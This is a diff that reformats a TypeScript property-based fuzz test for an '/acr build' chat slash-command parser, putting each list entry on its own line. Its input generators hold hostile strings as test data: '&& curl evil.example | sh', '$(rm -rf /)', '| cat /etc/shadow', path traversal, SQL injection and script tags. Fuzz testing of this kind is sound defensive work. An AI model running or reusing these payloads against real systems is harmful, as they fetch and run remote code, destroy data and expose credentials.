@@ -35,15 +35,77 @@ const pick = (...items: string[]) => fc.constantFrom(...items);
 
 const subcommands = pick('build', 'Build', 'BUILD', 'job', 'help', 'biuld', 'jbo', 'Help', 'audit', 'whoami', 'WhoAmI');
 const flags = pick(
-  '-t', '-r', '-f', '--image', '--registry', '--file', '--build-arg', '--env', '--platform', '--no-cache', '--timeout',
-  '--target', '--help', '-h', '--', '-', '\u2014image', '\u2013t', '--imgae', '-T', '--build-arg=', '--env=prod', '-t=web:v1',
-  '--user', '--since', '--action', '--page',
+  '-t',
+  '-r',
+  '-f',
+  '--image',
+  '--registry',
+  '--file',
+  '--build-arg',
+  '--env',
+  '--platform',
+  '--no-cache',
+  '--timeout',
+  '--target',
+  '--help',
+  '-h',
+  '--',
+  '-',
+  '\u2014image',
+  '\u2013t',
+  '--imgae',
+  '-T',
+  '--build-arg=',
+  '--env=prod',
+  '-t=web:v1',
+  '--user',
+  '--since',
+  '--action',
+  '--page',
 );
 const values = pick(
-  'web:v1', 'team/web:{{.Run.ID}}', 'Web:V1', 'web@sha256:abc', 'contosoreg', 'contosoreg.azurecr.io', 'ab', 'VERSION=1.2', 'A=b=c',
-  '=x', 'staging', 'Prod', 'linux/arm64', 'linux/arm/v7', 'windows', 'plan9/z80', '600', '-5', '99999', '1e3', 'Dockerfile',
-  'docker/Dockerfile.prod', '/etc/passwd', 'C:\\x', 'runtime', 'j0abc12def345', 'J0ABC12DEF345', '`j0abc12def345`', 'true', 'false',
-  '@alice', '<@U0ALICE1>', '<@u0alice1|alice>', 'U0123ABCD', 'ursula', '24h', '7d', '0m', '9999999w', 'deploy', 'approval.granted', '1700000000000-0',
+  'web:v1',
+  'team/web:{{.Run.ID}}',
+  'Web:V1',
+  'web@sha256:abc',
+  'contosoreg',
+  'contosoreg.azurecr.io',
+  'ab',
+  'VERSION=1.2',
+  'A=b=c',
+  '=x',
+  'staging',
+  'Prod',
+  'linux/arm64',
+  'linux/arm/v7',
+  'windows',
+  'plan9/z80',
+  '600',
+  '-5',
+  '99999',
+  '1e3',
+  'Dockerfile',
+  'docker/Dockerfile.prod',
+  '/etc/passwd',
+  'C:\\x',
+  'runtime',
+  'j0abc12def345',
+  'J0ABC12DEF345',
+  '`j0abc12def345`',
+  'true',
+  'false',
+  '@alice',
+  '<@U0ALICE1>',
+  '<@u0alice1|alice>',
+  'U0123ABCD',
+  'ursula',
+  '24h',
+  '7d',
+  '0m',
+  '9999999w',
+  'deploy',
+  'approval.granted',
+  '1700000000000-0',
 );
 const urls = pick(
   'https://github.com/org/app.git#main',
@@ -69,24 +131,91 @@ const wholeCommands = pick(
   'job j0abc12def345',
   'help build',
 );
-const quotes = pick('"', "'", '\u201c', '\u201d', '\u2018', '\u2019', '\\', '""', "''", '"web:v1"', '\u201csmart value\u201d', '\u2018single\u2019', '"unbalanced', "it's", '\\"', '"a\\"b"');
+const quotes = pick(
+  '"',
+  "'",
+  '\u201c',
+  '\u201d',
+  '\u2018',
+  '\u2019',
+  '\\',
+  '""',
+  "''",
+  '"web:v1"',
+  '\u201csmart value\u201d',
+  '\u2018single\u2019',
+  '"unbalanced',
+  "it's",
+  '\\"',
+  '"a\\"b"',
+);
 const controls = fc.oneof(
   fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code)),
-  pick('\u007f', '\u0085', '\u009b', '\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u200b', '\u2028', '\u2029', '\ufeff', '\u001b[31m'),
+  pick(
+    '\u007f',
+    '\u0085',
+    '\u009b',
+    '\u202e',
+    '\u202d',
+    '\u2066',
+    '\u2067',
+    '\u2068',
+    '\u2069',
+    '\u200e',
+    '\u200f',
+    '\u200b',
+    '\u2028',
+    '\u2029',
+    '\ufeff',
+    '\u001b[31m',
+  ),
 );
 const unicode = fc.oneof(
   fc.string({ unit: 'grapheme', maxLength: 12 }),
   pick('🚀', '👩\u200d💻', '🇺🇳', 'e\u0301', 'a\u0300\u0301\u0302\u0303', 'مرحبا', 'שלום', 'ß', 'İ', 'ﬁ', 'Ｗｅｂ', '\u00a0', '\u3000', '\u212a'),
 );
 const markup = pick(
-  '<!channel>', '<!here>', '<!everyone>', '<!here|here>', '<@U123>', '<@U123|bob>', '<#C123|general>', '<!subteam^S1|@x>',
-  '<https://evil.example|click>', '<http://evil.example>', '<mailto:a@b.c|a@b.c>', '<!date^1392734382^{date}|x>',
-  '&lt;!channel&gt;', '&lt;@U123&gt;', '&amp;lt;!here&amp;gt;', '&lt;https://evil.example|click&gt;', '&amp;', '&lt;', '&gt;', '<', '>', '<<!channel>>',
+  '<!channel>',
+  '<!here>',
+  '<!everyone>',
+  '<!here|here>',
+  '<@U123>',
+  '<@U123|bob>',
+  '<#C123|general>',
+  '<!subteam^S1|@x>',
+  '<https://evil.example|click>',
+  '<http://evil.example>',
+  '<mailto:a@b.c|a@b.c>',
+  '<!date^1392734382^{date}|x>',
+  '&lt;!channel&gt;',
+  '&lt;@U123&gt;',
+  '&amp;lt;!here&amp;gt;',
+  '&lt;https://evil.example|click&gt;',
+  '&amp;',
+  '&lt;',
+  '&gt;',
+  '<',
+  '>',
+  '<<!channel>>',
 );
 const injection = pick(
-  '$(rm -rf /)', '`rm -rf /`', '; DROP TABLE jobs;--', "' OR '1'='1", '../../etc/passwd', '..\\..\\windows', '{{.Run.ID}}', '{{ .Values.secret }}',
+  '$(rm -rf /)',
+  '`rm -rf /`',
+  '; DROP TABLE jobs;--',
+  "' OR '1'='1",
+  '../../etc/passwd',
+  '..\\..\\windows',
+  '{{.Run.ID}}',
+  '{{ .Values.secret }}',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell-style ${HOME} is one of the injections tried
-  '${HOME}', '%0a', '\n/acr build', '| cat /etc/shadow', '&& curl evil.example | sh', '<script>alert(1)</script>', '*bold* _it_ ~s~ `code`', '```block```',
+  '${HOME}',
+  '%0a',
+  '\n/acr build',
+  '| cat /etc/shadow',
+  '&& curl evil.example | sh',
+  '<script>alert(1)</script>',
+  '*bold* _it_ ~s~ `code`',
+  '```block```',
 );
 const longTokens = fc
   .tuple(pick('a', 'x', '-', '--t', '🚀', '"', '<!channel>', '&lt;', 'e\u0301', '\u202e', '\\', 'web:v1', ' '), fc.integer({ min: 100, max: 5000 }))
@@ -112,9 +241,22 @@ const separator = pick(' ', ' ', ' ', '', '  ', '\n', '\t', '\u00a0', '\r\n');
 const soup = fc.array(fc.tuple(fragment, separator), { maxLength: 24 }).map((parts) => parts.map(([word, sep]) => word + sep).join(''));
 /** Flags with values `/acr build` accepts, some carrying hostile text where any text is allowed. */
 const goodOptions = pick(
-  '-r contosoreg', '-r ContosoReg.azurecr.io', '-t team/web:{{.Run.ID}}', '--build-arg VERSION=1.2', '--build-arg A=b=c', '--platform linux/arm64',
-  '--no-cache', '--no-cache false', '--timeout 600', '--env staging', '--target runtime', '-f docker/Dockerfile.prod',
-  '--build-arg "MSG=hi <!channel> <@U123>"', '--build-arg NOTE=$(rm\\ -rf\\ /)', "--build-arg 'Q=; DROP TABLE jobs;--'", '--build-arg “S=\u202e smart”',
+  '-r contosoreg',
+  '-r ContosoReg.azurecr.io',
+  '-t team/web:{{.Run.ID}}',
+  '--build-arg VERSION=1.2',
+  '--build-arg A=b=c',
+  '--platform linux/arm64',
+  '--no-cache',
+  '--no-cache false',
+  '--timeout 600',
+  '--env staging',
+  '--target runtime',
+  '-f docker/Dockerfile.prod',
+  '--build-arg "MSG=hi <!channel> <@U123>"',
+  '--build-arg NOTE=$(rm\\ -rf\\ /)',
+  "--build-arg 'Q=; DROP TABLE jobs;--'",
+  '--build-arg “S=\u202e smart”',
 );
 /** A plausible `/acr build` with hostile values in it, so the deep parsers are reached often. */
 const buildText = fc
@@ -133,9 +275,15 @@ const buildText = fc
   .map(([sub, options, url]) => [sub, '-t web:v1', ...options, url].join(' '));
 const opsText = fc.oneof(
   fc
-    .oneof({ arbitrary: pick('j0abc12def345', 'J0ABC12DEF345', '`j0abc12def345`', 'j0abc12def34'), weight: 2 }, { arbitrary: values, weight: 1 }, { arbitrary: fragment, weight: 1 })
+    .oneof(
+      { arbitrary: pick('j0abc12def345', 'J0ABC12DEF345', '`j0abc12def345`', 'j0abc12def34'), weight: 2 },
+      { arbitrary: values, weight: 1 },
+      { arbitrary: fragment, weight: 1 },
+    )
     .map((id) => `job ${id}`),
-  fc.array(fc.tuple(pick('--user', '--env', '--since', '--action', '--page'), fc.oneof(values, fragment)), { maxLength: 3 }).map((pairs) => ['audit', ...pairs.flat()].join(' ')),
+  fc
+    .array(fc.tuple(pick('--user', '--env', '--since', '--action', '--page'), fc.oneof(values, fragment)), { maxLength: 3 })
+    .map((pairs) => ['audit', ...pairs.flat()].join(' ')),
   fc.oneof(pick(''), fragment).map((rest) => `whoami ${rest}`),
 );
 
@@ -351,7 +499,12 @@ describe('fuzz: hostile slash-command text', () => {
   it(`validateRegistryName agrees with the /acr parser's parseRegistryName on ${ALIGNMENT_RUNS} inputs (seed ${SEED})`, () => {
     const registryish = fc.oneof(
       fc.string({ unit: fc.constantFrom(...'aZ09-_.é'), maxLength: 60 }),
-      fc.tuple(fc.string({ unit: fc.constantFrom(...'abcXYZ019'), minLength: 3, maxLength: 52 }), pick('', '.azurecr.io', '.AzureCR.us', '.azurecr.cn', '.azurecr.com')).map(([name, suffix]) => name + suffix),
+      fc
+        .tuple(
+          fc.string({ unit: fc.constantFrom(...'abcXYZ019'), minLength: 3, maxLength: 52 }),
+          pick('', '.azurecr.io', '.AzureCR.us', '.azurecr.cn', '.azurecr.com'),
+        )
+        .map(([name, suffix]) => name + suffix),
       fragment,
     );
     fc.assert(
